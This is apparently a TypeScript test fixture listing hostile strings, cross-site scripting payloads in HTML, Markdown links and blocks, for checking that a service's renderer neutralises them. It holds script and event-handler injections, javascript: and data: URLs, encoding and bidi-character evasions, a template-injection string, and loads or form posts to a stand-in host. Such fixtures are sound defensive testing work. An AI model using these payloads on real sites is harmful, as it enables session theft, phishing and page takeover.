/**
 * Texts that would run code in a careless page, in the manner of public collections of such texts,
 * written for this service. Each of them calls `pwned()`, requests something below /pwned or at
 * pwned.example, opens a dialog, or leaves the page if it runs.
 */
const SCRIPT = 'pwned()';

const html = [
  `<script>${SCRIPT}</script>`,
  `<SCRIPT SRC=//pwned.example/x.js></SCRIPT>`,
  `<scr<script>ipt>${SCRIPT}</scr</script>ipt>`,
  `<img src=/pwned.png onerror=${SCRIPT}>`,
  `<img src=x:x onerror="${SCRIPT}">`,
  `<IMG """><SCRIPT>${SCRIPT}</SCRIPT>">`,
  `<svg onload=${SCRIPT}>`,
  `<svg><script>${SCRIPT}</script></svg>`,
  `<svg><animate onbegin=${SCRIPT} attributeName=x dur=1s>`,
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 ' +
    `onerror=${SCRIPT}&gt;">`,
  `<iframe src="javascript:parent.${SCRIPT}"></iframe>`,
  `<iframe srcdoc="<script>parent.${SCRIPT}</script>"></iframe>`,
  `<object data="/pwned"></object><embed src="/pwned">`,
  '<link rel=stylesheet href=/pwned.css><style>@import ' +
    '"/pwned.css";body{background:url(/pwned.png)}</style>',
  `<meta http-equiv="refresh" content="0;url=/pwned">`,
  `<base href="//pwned.example/">`,
  '<form action="//pwned.example/"><input name=key autofocus ' +
    `onfocus=${SCRIPT}><button>Sign in</button></form>`,
  `<body onload=${SCRIPT}>`,
  `<details open ontoggle=${SCRIPT}>`,
  `<video autoplay src=/pwned.mp4 onerror=${SCRIPT}><source onerror=${SCRIPT} src=/pwned>`,
  `<marquee onstart=${SCRIPT}>x</marquee>`,
  `<x contenteditable onblur=${SCRIPT} autofocus tabindex=1>`,
  `<div style="background-image:url(/pwned.png);position:fixed;inset:0">`,
  `</main></body><script>${SCRIPT}</script>`,
  `--><script>${SCRIPT}</script>`,
  `]]><script>${SCRIPT}</script>`,
  `</title><script>${SCRIPT}</script>`,
  `</style><script>${SCRIPT}</script>`,
  `</textarea><script>${SCRIPT}</script>`,
  `"><script>${SCRIPT}</script>`,
  `' onmouseover=${SCRIPT} autofocus onfocus=${SCRIPT} x='`,
  `" onfocus=${SCRIPT} autofocus="`,
  `&lt;script&gt;${SCRIPT}&lt;/script&gt;`,
  `&#60;script&#62;${SCRIPT}&#60;/script&#62;`,
  `\\x3cscript\\x3e${SCRIPT}\\x3c/script\\x3e`,
  `\u0001<script>${SCRIPT}</script>`,
  `<scr\u0000ipt>${SCRIPT}</script>`.replace('\u0000', '\u200b'),
  `<a href="javascript:${SCRIPT}">click</a>`,
  `{{constructor.constructor('${SCRIPT}')()}}`,
  `$\{${SCRIPT}}`,
  `<template shadowrootmode=open><script>${SCRIPT}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${SCRIPT}>">`,
];

const links = [
  `[x](javascript:${SCRIPT})`,
  `[x](JaVaScRiPt:${SCRIPT})`,
  `[x](java\tscript:${SCRIPT})`,
  `[x](<java\nscript:${SCRIPT}>)`,
  `[x](&#106;avascript:${SCRIPT})`,
  `[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:${SCRIPT})`,
  `[x](javascript&colon;${SCRIPT})`,
  `[x](\u0001javascript:${SCRIPT})`,
  `[x](vbscript:msgbox(1))`,
  `[x](data:text/html,<script>${SCRIPT}</script>)`,
  `[x](data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+)`,
  `[x](file:///etc/passwd)`,
  `[x](//pwned.example/)`,
  `[x](/session/end)`,
  `[x](http:javascript:${SCRIPT})`,
  `[x](https://pwned.example/"onmouseover="${SCRIPT})`,
  `[x](https://pwned.example/ "title" onmouseover=${SCRIPT} ")`,
  `[x](https://pwned.example/ '"><script>${SCRIPT}</script>')`,
  `[x]\n\n[x]: javascript:${SCRIPT}`,
  `<javascript:${SCRIPT}>`,
  `<https://pwned.example/"onclick="${SCRIPT}>`,
  `![x](/pwned.png)`,
  `![x](https://pwned.example/x.png)`,
  `![x](javascript:${SCRIPT})`,
  `![x"onerror="${SCRIPT}](https://pwned.example/x.png)`,
  `[![x](/pwned.png)](javascript:${SCRIPT})`,
  `https://pwned.example/'"><img/src=x/onerror=${SCRIPT}>`,
  `[<img src=x onerror=${SCRIPT}>](https://pwned.example/)`,
];

const blocks = [
  '```html"><script>pwned()</script>\n<script>pwned()</script>\n```',
  '``` "onmouseover="pwned()\nx\n```',
  '    <script>pwned()</script>',
  '`<script>pwned()</script>`',
  '# <img src=x onerror=pwned()>',
  '| <script>pwned()</script> | b |\n|:-:|---|\n| <img src=x onerror=pwned()> | ' +
    '[x](javascript:pwned()) |',
  '> <script>pwned()</script>\n> - <svg onload=pwned()>',
  '* [ ] <input autofocus onfocus=pwned()>',
  '[x]: <javascript:pwned()> "t"\n[x][x] ![x][x]',
  '\u202e)(denwp\u202c \u2066<script>pwned()</script>\u2069',
  `@ada" onmouseover="${SCRIPT}`,
];

export const hostileTexts: readonly string[] = [...html, ...links, ...blocks];

/** Those that can be a name or a title: one line, without control characters, short enough. */
export const hostileNames: readonly string[] = hostileTexts
  .filter((text) => !/[\p{Cc}\u202a-\u202e\u2066-\u2069]/u.test(text) && text.length <= 80)
  .slice(0, 60);
